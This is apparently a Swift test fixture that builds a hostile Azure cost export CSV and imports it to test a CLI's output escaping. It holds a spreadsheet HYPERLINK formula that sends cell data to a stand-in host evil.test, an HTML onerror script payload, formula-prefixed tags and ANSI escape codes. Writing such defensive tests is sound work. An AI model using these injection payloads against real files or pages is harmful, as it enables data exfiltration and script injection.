import Foundation
import TestSupport
import Testing

/// A cost export whose names are hostile (a formula, an HTML tag, an ANSI escape; one refund),
/// imported into a fresh warehouse: the input of issue 17's output tests.
enum HostileExport {
    static let hyperlink = #"=HYPERLINK("http://evil.test/?"&A1,"Click")"#
    static let header = "SubscriptionId,Date,MeterId,MeterCategory,MeterSubCategory,MeterRegion,MeterName,Quantity,Cost,BillingCurrency,ResourceGroup,UnitOfMeasure,Tags,ChargeType"

    static func export(cost: String = "15") -> String {
        let sub = "64e355d7-997c-491d-b0c1-8414dccfcf42"
        func row(_ meter: String, _ name: String, _ cost: String, _ tag: String) -> String {
            "\(sub),09/04/2023,\(meter),Storage,Disks,,\"\(name.replacingOccurrences(of: "\"", with: "\"\""))\",1,\(cost),USD,rg1,1/Month,\"{\"\"CostCenter\"\": \"\"\(tag.replacingOccurrences(of: "\"", with: "\\\"\""))\"\"}\",Usage"
        }
        return [
            header, row("m-1", hyperlink, cost, "@SUM(1+1)"), row("m-2", "<img src=x onerror=alert(1)>", "2.5", "ops"),
            row("m-3", "red \u{1B}[31mALERT\u{1B}[0m", "-1.25", "-cmd"), "",
        ].joined(separator: "\n")
    }

    static func warehouse(_ dir: TemporaryDirectory) throws -> String {
        let db = dir.path("w.db")
        try export().write(toFile: dir.path("export.csv"), atomically: true, encoding: .utf8)
        let imported = try CLI.run(["import", "--db", db, "--kind", "azure-cost-export", dir.path("export.csv")])
        #expect(imported.status == 0, "\(imported.stderr)")
        return db
    }
}
